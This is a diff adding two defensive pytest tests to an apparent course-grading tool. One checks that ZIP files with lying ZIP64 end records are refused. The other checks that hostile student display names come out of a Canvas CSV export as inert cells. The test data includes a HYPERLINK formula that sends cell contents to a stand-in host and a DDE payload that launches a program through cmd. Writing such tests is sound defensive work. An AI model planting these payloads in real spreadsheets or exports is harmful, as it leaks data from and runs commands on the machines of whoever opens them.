@@ -88,6 +88,21 @@ def test_a_zip_whose_central_directory_lists_millions_of_entries_is_refused_chea
         assert time.monotonic() - started < 0.5
 
 
+def test_zip64_end_records_that_lie_are_refused_with_a_reason(tmp_path):
+    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
+    z64 = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 10**9, 10**9, 10**12, 0)
+    cases = {
+        "huge": z64 + struct.pack("<4sLQL", b"PK\x06\x07", 0, 0, 1) + eocd,  # a billion entries, 1 TB directory
+        "disks": struct.pack("<4sLQL", b"PK\x06\x07", 0, 0, 2) + eocd,  # spans two disks
+        "garbage": struct.pack("<4sLQL", b"PK\x06\x07", 0, 0, 1) + eocd,
+    }
+    for name, raw in cases.items():
+        path = tmp_path / f"{name}.zip"
+        path.write_bytes(raw)
+        with pytest.raises(BadSubmission):
+            read_submission(path)
+
+
 def test_a_flood_of_bogus_quiz_attempts_adds_a_bounded_number_of_problems(tmp_path):
     """Each attempt naming a chapter without a bank added one note to the submission's
     problems: a 1 MB responses file gave ~60,000 lines to the gradebook, the report and
@@ -515,3 +530,26 @@ def test_an_attempt_for_another_chapters_quiz_adds_no_column_to_a_chapter_collec
     with Gradebook(db) as gb:
         problems = {r["student"]: json.loads(r["problems"]) for r in gb.submissions()}
     assert any("chapter8" in p and "not scored" in p for p in problems["mallory"])
+
+
+def test_display_names_a_student_chose_in_canvas_are_inert_cells_in_the_canvas_upload(tmp_path):
+    """Canvas lets students edit their display name; it comes back through the roster
+    import into the upload the instructor opens in a spreadsheet."""
+    from grader.instructor.export import to_canvas
+    from grader.instructor.roster import parse_roster
+
+    names = ['=HYPERLINK("http://evil.example/?"&A1)', "\u200b=1+1", "+cmd|' /C calc'!A0", "@SUM(1)",
+             "-2+3", "\x00=1", "Doe,\nAlice\r=1"]
+    rows = [["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Perceptrons (1001)"],
+            ["    Points Possible", "", "", "", "", "10"]]
+    rows += [[n, str(100 + i), f"S{i}", f"login{i}", "=A", ""] for i, n in enumerate(names)]
+    buf = io.StringIO()
+    csv.writer(buf).writerows(rows)
+    db = tmp_path / "gb.sqlite"
+    with Gradebook(db) as gb:
+        gb.set_roster(parse_roster(buf.getvalue().encode(), "canvas.csv"))
+        out = to_canvas(gb, {"chapter2": "Perceptrons (1001)"})
+    for row in list(csv.reader(io.StringIO(out)))[2:]:
+        for cell in row:
+            assert not cell or cell[0] not in "=+-@\t\r" or cell.startswith("'"), row
+            assert "\x00" not in cell and "\r" not in cell and "\n" not in cell
